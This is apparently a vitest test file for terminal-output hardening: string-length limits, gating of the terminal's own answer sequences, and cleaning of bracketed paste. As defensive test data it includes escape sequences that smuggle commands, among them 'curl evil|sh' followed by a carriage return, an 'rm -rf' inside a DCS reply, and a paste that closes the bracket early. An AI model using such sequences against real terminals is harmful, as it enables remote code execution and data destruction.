import { describe, expect, test } from 'vitest';
import { cleanPaste, createAnswerGate, createStringLimit } from './hostile-output.ts';

const through = (...chunks: string[]): string => {
  const limit = createStringLimit();
  return chunks.map(limit).join('');
};

describe('TERM-05 endless strings', () => {
  test('plain text, colours and short strings pass unchanged, however the chunks are cut', () => {
    const text =
      'a\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b]8;;https://x.example\u001b\\link\u001b]8;;\u001b\\ 漢字 \u001b(B';
    expect(through(text)).toBe(text);
    expect(through(...[...text])).toBe(text);
  });

  test('TERM-05 a string of 60 MB is dropped, what comes after it is not', () => {
    const limit = createStringLimit();
    let out = limit('before\u001b]52;c;');
    for (let sent = 0; sent < 60; sent += 1) out += limit('A'.repeat(1024 * 1024));
    out += limit('\u0007after');
    expect(out).toBe('beforeafter');
  });

  test('an escape that ends a chunk waits for the next one', () => {
    expect(through('x\u001b', '[1m')).toBe('x\u001b[1m');
  });
});

describe('TERM-04 the terminal’s own answers', () => {
  test('cursor position, device attributes and mode reports pass', () => {
    const may = createAnswerGate(() => 0);
    for (const answer of ['\u001b[24;80R', '\u001b[?1;2c', '\u001b[>0;276;0c', '\u001b[0n', '\u001b[?2004;1$y'])
      expect(may(answer)).toBe(true);
  });

  test('TERM-04 answers that hold remote text, CR or LF do not', () => {
    const may = createAnswerGate(() => 0);
    for (const answer of [
      '\u001b]lcurl evil|sh\r\u001b\\',
      '\u001b[1;2R\r',
      '\u001bP1$rrm -rf\u001b\\',
      '\u001b]10;rgb:0/0/0\u0007',
    ])
      expect(may(answer)).toBe(false);
  });

  test('TERM-04 at most 100 a second', () => {
    let now = 0;
    const may = createAnswerGate(() => now);
    const passed = Array.from({ length: 300 }, () => may('\u001b[0n')).filter(Boolean);
    expect(passed).toHaveLength(100);
    now = 1500;
    expect(may('\u001b[0n')).toBe(true);
  });
});

describe('TERM-07 paste', () => {
  test('TERM-07 the end of the bracket and other controls are taken out', () => {
    expect(cleanPaste('ls\u001b[201~\u0000; rm\u009b1m').text).toBe('ls[201~; rm1m');
  });

  test('one line does not ask, two lines or 5 KiB do', () => {
    expect(cleanPaste('ls -l')).toMatchObject({ ask: false, lines: 1 });
    expect(cleanPaste('ls -l\r\n')).toMatchObject({ text: 'ls -l\n', ask: false });
    expect(cleanPaste('a\rb')).toMatchObject({ text: 'a\nb', ask: true, lines: 2 });
    expect(cleanPaste('x'.repeat(5000)).ask).toBe(true);
  });
});
